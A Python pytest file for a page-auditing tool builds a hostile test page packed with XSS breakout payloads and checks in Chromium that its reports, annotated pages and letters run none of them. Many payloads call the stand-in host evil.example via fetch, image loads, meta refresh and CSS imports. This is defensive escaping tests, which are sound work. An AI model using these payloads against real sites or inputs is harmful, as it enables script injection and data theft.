"""A page made to attack its own report: in Chromium nothing of it runs, and nothing leaves."""

from __future__ import annotations

import json
import tempfile
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from auditor import pipeline
from auditor.evidence import annotate_audit
from auditor.reporting.comparing import compare_records
from auditor.reporting.difference import render_diff_html
from auditor.reporting.html import render_html
from auditor.reporting.letters import render_letter, select_findings
from auditor.reporting.record import to_record
from tests.browsers import needs_browser, open_chromium
from tests.factories import page as make_page
from tests.runs import SITES, attack_run, read_pages, scan_sites

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

EVIL = "http://evil.example"
RUN = f"window.ran = 1; document.title = 'ran'; fetch('{EVIL}/fetch')"
FIRST = "window.ran=1"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f'<img src={EVIL}/x.png onerror="{RUN}">'
BREAKS = (
    f"</title></style></script></textarea></noscript></template></blockquote></bdi></p></figure></article></main></section>{SCRIPT}{IMAGE}",
    f'" autofocus onfocus="{RUN}" x=\'',
    f"' onmouseover='{RUN}' x=\"",
    f"--><!--><svg/onload={FIRST}>",
    f']]><svg><style><img src=x onerror="{RUN}"></style></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={FIRST}&gt;">',
    f"<iframe srcdoc='{SCRIPT}'></iframe><object data='javascript:{RUN}'></object>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'><base href={EVIL}/><link rel=stylesheet href={EVIL}/x.css>",
    f"{{{{ 7*7 }}}}{{% raw %}}<% {RUN} %>${{{RUN}}}",
    "\u202e\u2066drawkcab\u2069 \u200b\x00\x1b[31m\x9b",
    "@import url(http://evil.example/x.css); } * { background: url(http://evil.example/x.png) }",
)


def escape_attribute(text: str) -> str:
    """Return *text* as an author writes it into a double-quoted attribute."""
    return text.replace("&", "&amp;").replace('"', "&quot;")


def escape_text(text: str) -> str:
    """Return *text* as an author writes it into the text of a page: the visitor sees the very characters."""
    return text.replace("&", "&amp;").replace("<", "&lt;")


@cache
def write_attack() -> str:
    """Return a page that carries every attack in every place that a report shows."""
    seen = "".join(
        f"""<section id="{escape_attribute(attack)}" class="{escape_attribute(attack)}"><h2>Our stem cells cure arthritis {escape_text(attack)}</h2>
<p title="{escape_attribute(attack)}">We guarantee results, 100% safe {escape_text(attack)} and our cells cure diabetes.</p>
<img src="{EVIL}/i.png" alt="Cured of cancer {escape_attribute(attack)}"><a href="{EVIL}/?{escape_attribute(attack)}">Get my free quote {escape_text(attack)}</a>
<a href="javascript:{RUN}">Book your cure now</a><a href="https://wa.me/1{escape_attribute(attack)}">WhatsApp us</a>
<form action="{EVIL}/{escape_attribute(attack)}" name="{escape_attribute(attack)}"><label>{escape_text(attack)} diagnosis <input name="{escape_attribute(attack)}" placeholder="{escape_attribute(attack)}"></label>
<input name=phone type=tel><button formaction="{EVIL}/button" name="{escape_attribute(attack)}">Get my free quote {escape_text(attack)}</button></form>
<blockquote class=testimonial>“I was cured of multiple sclerosis {escape_text(attack)}”</blockquote>
<style>p {{ background: url({EVIL}/s.png) }} @import "{EVIL}/s.css"; body {{ display: none }} #auditor-notes, .auditor-mark {{ display: none !important }}</style>
{attack}</section>"""
        for attack in BREAKS
    )
    data = json.dumps(
        [
            {
                "@type": "MedicalClinic",
                "name": f"We cure arthritis {attack}",
                "description": f"Our cells cure diabetes {attack}",
            }
            for attack in BREAKS
        ]
    )
    return f"""<!DOCTYPE html><html lang="en" onclick="{RUN}"><head><title>We cure arthritis {escape_text(BREAKS[0])}</title>
<meta name=description content="Our stem cells cure diabetes {escape_attribute(BREAKS[0])}"><meta name=author content="{escape_attribute(BREAKS[0])}">
<meta property=og:title content="{escape_attribute(BREAKS[1])} cures cancer"><link rel=canonical href="{EVIL}/{escape_attribute(BREAKS[1])}">
<script type="application/ld+json">{data.replace("</", "<" + chr(92) + "/")}</script>{SCRIPT}</head>
<body onload="{RUN}" background="{EVIL}/body.png"><p title="{"x" * 1_000_000}">We cure arthritis with stem cells.</p>{seen}{IMAGE}{SCRIPT}
<p>{"Our therapy has helped very many patients. " * 50}</p></body></html>"""


@cache
def audit_attack() -> tuple[Any, dict[str, Any]]:
    """Return the audit of the attack, and its record."""
    url = f"{EVIL}/{escape_attribute(BREAKS[1])}"
    page = make_page(write_attack(), url=url, source=url)
    # So much code among the words looks like no language in particular.
    made = pipeline.audit_page(page, settings=pipeline.Settings(language="en"))
    return made, to_record(made)


def flood_record() -> dict[str, Any]:
    """Return the record of the attack with 5,000 findings."""
    record = audit_attack()[1]
    findings = record["findings"]
    return record | {"findings": [findings[number % len(findings)] for number in range(5_000)]}


def write_report() -> str:
    """Return the report on the attack."""
    return render_html(audit_attack()[1], annotated="page.annotated.html")


def write_annotated() -> str:
    """Return the annotated page of the attack."""
    made, record = audit_attack()
    return annotate_audit(made.page, record, report="page.html")


@cache
def soften_attack() -> dict[str, Any]:
    """Return the record of the attack as it stands a week later, some of its claims gone and others reworded."""
    markup = write_attack().replace("cures arthritis", "may ease arthritis").replace("100% safe", "well tolerated", 4)
    url = f"{EVIL}/{escape_attribute(BREAKS[1])}"
    page = make_page(markup, url=url, source=url, retrieved="2031-03-21T09:26:53Z")
    return to_record(pipeline.audit_page(page, settings=pipeline.Settings(language="en")))


def write_comparison(*, flooded: bool = False) -> str:
    """Return what changed in the attack."""
    before = flood_record() if flooded else audit_attack()[1]
    return render_diff_html(compare_records(before, soften_attack()))


def write_letter(kind: str, to: str, *, flooded: bool = False) -> str:
    """Return the draft of a letter about the attack."""
    record = flood_record() if flooded else audit_attack()[1]
    return render_letter(record, select_findings(record, [], kind, to), kind=kind, to=to, form="html")


@cache
def write_run() -> dict[str, str]:
    """Return the pages of a run over the attack and others, with a list, addresses and reasons as hostile as it is."""
    with tempfile.TemporaryDirectory() as place:
        folder = Path(place)
        (folder / "attacked").mkdir()
        run = scan_sites(folder, SITES | {"attack": write_attack()})
        return read_pages(attack_run(run, folder / "attacked", " ".join(BREAKS)))


PAGES: dict[str, Callable[[], str]] = {
    "report": write_report,
    "report, flooded": lambda: render_html(flood_record()),
    "annotated page": write_annotated,
    "annotated page, flooded": lambda: annotate_audit(audit_attack()[0].page, flood_record(), report="page.html"),
    "comparison": write_comparison,
    "comparison, flooded": lambda: write_comparison(flooded=True),
    "complaint": lambda: write_letter("complaint", "generic"),
    "complaint, German": lambda: write_letter("complaint", "de-wettbewerbszentrale"),
    "right of reply": lambda: write_letter("right-of-reply", "generic"),
    "right of reply, flooded": lambda: write_letter("right-of-reply", "generic", flooded=True),
    "run": lambda: write_run()["index"],
    "run, site": lambda: write_run()["attack"],
    "run, site that changed": lambda: write_run()["lumora"],
}


@cache
def render(name: str) -> str:
    """Return the page called *name*, made once."""
    return PAGES[name]()


@pytest.fixture(scope="module", name="chromium")
def start_chromium() -> Iterator[Any]:
    """Start one Chromium for all tests here."""
    with open_chromium() as chromium:
        yield chromium


def test_the_attack_is_met_by_rules() -> None:
    """The page carries its attacks into findings of many kinds: what follows tests something."""
    findings = audit_attack()[1]["findings"]
    quotes = [item["quote"] for finding in findings for item in finding["evidence"]]

    assert len(findings) >= 10
    assert any("<script>" in quote for quote in quotes)
    assert {"title", "meta", "alt", "heading", "paragraph", "button"} <= {
        item["passage"]["role"] for finding in findings for item in finding["evidence"]
    }


@needs_browser
def test_the_attack_works_on_its_own(chromium: Any) -> None:
    """Unguarded, the page runs and asks: the measure sees what it should."""
    asked: list[str] = []
    window = chromium.new_page()
    window.on("request", lambda request: asked.append(request.url))
    window.set_content(write_attack(), wait_until="domcontentloaded")
    window.wait_for_timeout(500)

    assert f"{EVIL}/fetch" in asked, "its scripts run"
    assert any(url.startswith(f"{EVIL}/x.png") for url in asked)
    window.close()


@needs_browser
@pytest.mark.parametrize("bypass", [False, True], ids=["policy", "no policy"])
@pytest.mark.parametrize("name", PAGES)
def test_nothing_of_the_page_is_alive(name: str, bypass: bool, chromium: Any, tmp_path: Path) -> None:
    """No script of the page runs, no request leaves and nobody is led away, even where the page's policy did not hold."""
    path = tmp_path / "page.html"
    path.write_text(render(name), "utf-8")
    asked: list[str] = []
    dialogs: list[str] = []
    context = chromium.new_context(bypass_csp=bypass)
    window = context.new_page()
    window.on("request", lambda request: asked.append(request.url))

    def dismiss(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    window.on("dialog", dismiss)
    window.goto(path.as_uri())
    for element in window.query_selector_all("input, button, details, img, [autofocus], [tabindex]")[:200]:
        element.dispatch_event("mouseover")
        element.dispatch_event("focus")
    window.mouse.move(300, 300)
    window.keyboard.press("Tab")
    window.wait_for_timeout(300)

    title = window.evaluate("() => document.title")
    assert None is window.evaluate("() => window.ran ?? null")
    assert "ran" != title
    assert [] == dialogs
    assert [path.as_uri()] == [url for url in asked if not url.startswith("data:")]
    assert path.as_uri() == window.url
    context.close()


@needs_browser
def test_the_page_cannot_touch_the_notes(chromium: Any, tmp_path: Path) -> None:
    """Its style hides neither notes nor marks, and its names are not taken for ours."""
    path = tmp_path / "page.html"
    path.write_text(write_annotated(), "utf-8")
    window = chromium.new_page()
    window.goto(path.as_uri())

    assert window.is_visible("#auditor-notes")
    assert all(mark.is_visible() for mark in window.query_selector_all(".auditor-number")[:50])
    assert [] == window.evaluate(
        "() => { const ids = [...document.querySelectorAll('[id]')].map(one => one.id); return ids.filter((id, place) => id.startsWith('auditor') && ids.indexOf(id) !== place); }"
    )
    window.close()


@pytest.mark.parametrize("name", PAGES)
def test_a_flood_stays_small(name: str) -> None:
    """5,000 findings and an attribute of a megabyte make a page that opens at once."""
    assert len(render(name).encode()) < 1_500_000
